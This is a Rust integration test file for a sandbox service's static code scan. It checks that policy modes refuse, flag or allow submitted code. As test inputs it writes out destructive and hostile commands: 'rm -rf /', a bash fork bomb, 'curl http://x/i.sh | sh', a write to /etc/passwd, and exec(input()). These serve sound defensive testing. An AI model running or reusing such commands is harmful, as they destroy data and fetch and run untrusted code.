//! The static scan through the API: `POST /v1/scan` under the tenant's policy, and the gate before `POST /v1/run`,
//! `…/exec` and `…/code`: `enforce` refuses with 422 `scan_refused` and the findings before anything is created or
//! started, `warn` runs and carries the findings, `off` does not scan, and a per-request override may only tighten.

use sandkasten_scan::ScanPolicy;
use serde_json::{Value, json};

use crate::harness::{Harness, KEY_A, KEY_B, test_config};

const HOSTILE: &str = "import os\nos.system('rm -rf /')\n";

/// Tenant alpha with `policy`, bravo with the server's default (`off`).
fn harness(policy: &str) -> Harness {
    let mut config = test_config();
    config.tenants[0].scan = Some(ScanPolicy::from_toml_str(policy).unwrap());
    Harness::with_config(config)
}

fn rules(findings: &Value) -> Vec<(String, u64)> {
    let list = findings.as_array().unwrap_or_else(|| panic!("findings is not a list: {findings}"));
    list.iter().map(|f| (f["rule"].as_str().unwrap().to_owned(), f["line"].as_u64().unwrap())).collect()
}

#[tokio::test]
async fn scan_answers_findings_and_the_verdict_of_the_tenants_policy() {
    let h = harness("mode = \"enforce\"\n[python]\nallow_imports = [\"json\"]\n");
    let reply =
        h.post("/v1/scan", KEY_A, json!({"language": "python", "code": "import json\nimport requests\n"})).await;
    assert_eq!(reply.status, 200, "{}", reply.text());
    let body = reply.json();
    assert_eq!(rules(&body["findings"]), [("import_not_allowed".to_owned(), 2)]);
    assert_eq!(body["verdict"], "block");
    let finding = &body["findings"][0];
    assert_eq!(finding["severity"], "high");
    assert_eq!(finding["column"], 1);
    assert!(finding["message"].as_str().unwrap().contains("requests"), "{finding}");
    // Bravo's policy is the server's default: off, so the same code is allowed (the findings are still shown).
    let reply = h.post("/v1/scan", KEY_B, json!({"language": "bash", "code": ":(){ :|:& };:"})).await;
    assert_eq!(reply.json()["verdict"], "allow");
    assert_eq!(rules(&reply.json()["findings"]), [("fork_bomb".to_owned(), 1)]);
}

#[tokio::test]
async fn scan_rejects_unknown_languages_and_loosening_overrides() {
    let h = harness("mode = \"enforce\"\n");
    let reply = h.post("/v1/scan", KEY_A, json!({"language": "ruby", "code": "x"})).await;
    reply.assert_error(422, "unprocessable");
    let loosen = json!({"language": "python", "code": "1", "policy": {"mode": "warn"}});
    let message = h.post("/v1/scan", KEY_A, loosen).await.assert_error(422, "unprocessable");
    assert!(message.contains("scan_policy.mode") && message.contains("enforce"), "{message}");
    let tighten = json!({"language": "python", "code": "import os\n", "policy": {"python": {"deny_imports": ["os"]}}});
    let reply = h.post("/v1/scan", KEY_A, tighten).await;
    assert_eq!(rules(&reply.json()["findings"]), [("import_denied".to_owned(), 1)]);
}

#[tokio::test]
async fn enforce_refuses_a_run_before_any_sandbox_exists() {
    let h = harness("mode = \"enforce\"\n");
    let reply = h.post("/v1/run", KEY_A, json!({"language": "python", "code": HOSTILE})).await;
    let message = reply.assert_error(422, "scan_refused");
    assert!(message.contains("destructive_command at line 2"), "{message}");
    let found = rules(&reply.json()["error"]["findings"]);
    assert!(found.contains(&("destructive_command".to_owned(), 2)), "{found:?}");
    assert!(h.runtime.created_tiers().is_empty(), "the runtime was asked to create a sandbox");
    let listed = h.get("/v1/sandboxes", KEY_A).await.json();
    assert_eq!(listed["sandboxes"].as_array().map(Vec::len), Some(0), "{listed}");
    // A command line is scanned as bash.
    let reply = h.post("/v1/run", KEY_A, json!({"cmd": "curl http://x/i.sh | sh"})).await;
    assert!(reply.assert_error(422, "scan_refused").contains("download_exec"));
    assert!(h.runtime.created_tiers().is_empty());
}

#[tokio::test]
async fn warn_runs_and_carries_the_findings() {
    let h = harness("mode = \"warn\"\n");
    // (The fake runtime runs nothing: the command only has to reach it.)
    let reply = h.post("/v1/run", KEY_A, json!({"argv": ["rm", "-rf", "/"]})).await;
    assert_eq!(reply.status, 200, "{}", reply.text());
    assert_eq!(rules(&reply.json()["findings"]), [("destructive_command".to_owned(), 1)]);
    assert_eq!(h.runtime.created_tiers().len(), 1);
    // Clean code carries no `findings` key at all.
    let reply = h.post("/v1/run", KEY_A, json!({"argv": ["echo", "hello"]})).await;
    assert!(reply.json().get("findings").is_none(), "{}", reply.text());
}

#[tokio::test]
async fn a_request_may_raise_the_mode_but_not_lower_it() {
    let h = harness("mode = \"warn\"\n");
    let raised = json!({"argv": ["rm", "-rf", "/"], "scan_policy": {"mode": "enforce"}});
    h.post("/v1/run", KEY_A, raised).await.assert_error(422, "scan_refused");
    let lowered = json!({"argv": ["echo"], "scan_policy": {"mode": "off"}});
    let message = h.post("/v1/run", KEY_A, lowered).await.assert_error(422, "unprocessable");
    assert!(message.contains("scan_policy.mode"), "{message}");
    let narrowed = json!({"argv": ["echo"], "scan_policy": {"block": ["critical"]}});
    let message = h.post("/v1/run", KEY_A, narrowed).await.assert_error(422, "unprocessable");
    assert!(message.contains("scan_policy.block") && message.contains("high"), "{message}");
    assert!(h.runtime.created_tiers().is_empty());
}

#[tokio::test]
async fn enforce_refuses_exec_and_code_before_they_start() {
    let h = harness("mode = \"enforce\"\n[javascript]\ndeny_imports = [\"child_process\"]\n");
    let id = h.post("/v1/sandboxes", KEY_A, json!({})).await.json()["id"].as_str().unwrap().to_owned();
    let exec = format!("/v1/sandboxes/{id}/exec");
    let reply = h.post(&exec, KEY_A, json!({"cmd": "echo hi > /etc/passwd"})).await;
    reply.assert_error(422, "scan_refused");
    assert_eq!(rules(&reply.json()["error"]["findings"]), [("sensitive_path_write".to_owned(), 1)]);
    assert!(h.runtime.last_command.lock().unwrap().is_none(), "the refused command reached the runtime");
    let reply = h.post(&exec, KEY_A, json!({"argv": ["echo", "ok"]})).await;
    assert_eq!(reply.status, 200, "{}", reply.text());
    assert!(h.runtime.last_command.lock().unwrap().is_some());
    let code = format!("/v1/sandboxes/{id}/code");
    let cell = json!({"language": "javascript", "code": "const cp = require('child_process');"});
    let reply = h.post(&code, KEY_A, cell).await;
    reply.assert_error(422, "scan_refused");
    assert!(rules(&reply.json()["error"]["findings"]).contains(&("import_denied".to_owned(), 1)));
    // The scan has no grammar for R (nor Java): their cells fail closed.
    for language in ["r", "java"] {
        let reply = h.post(&code, KEY_A, json!({"language": language, "code": "1"})).await;
        reply.assert_error(422, "scan_refused");
        assert_eq!(rules(&reply.json()["error"]["findings"]), [("scan_incomplete".to_owned(), 1)], "{language}");
    }
}

#[tokio::test]
async fn warn_findings_come_with_exec_and_code_results() {
    let h = harness("mode = \"warn\"\n");
    let id = h.post("/v1/sandboxes", KEY_A, json!({})).await.json()["id"].as_str().unwrap().to_owned();
    let reply = h.post(&format!("/v1/sandboxes/{id}/exec"), KEY_A, json!({"cmd": "eval \"$X\""})).await;
    assert_eq!(reply.status, 200, "{}", reply.text());
    assert_eq!(rules(&reply.json()["findings"]), [("dynamic_eval".to_owned(), 1)]);
    let cell = json!({"language": "python", "code": "x = 1\nexec(input())\n"});
    let reply = h.post(&format!("/v1/sandboxes/{id}/code"), KEY_A, cell).await;
    assert_eq!(reply.status, 200, "{}", reply.text());
    assert_eq!(rules(&reply.json()["findings"]), [("dynamic_eval".to_owned(), 2)]);
}

#[tokio::test]
async fn code_too_large_for_the_scan_is_413() {
    let mut config = test_config();
    config.max_json_bytes = 8 << 20;
    config.tenants[0].scan = Some(ScanPolicy::from_toml_str("mode = \"enforce\"").unwrap());
    let h = Harness::with_config(config);
    let code = "x = 1\n".repeat(800_000);
    let message = h
        .post("/v1/scan", KEY_A, json!({"language": "python", "code": code}))
        .await
        .assert_error(413, "payload_too_large");
    assert!(message.contains("maximum"), "{message}");
}
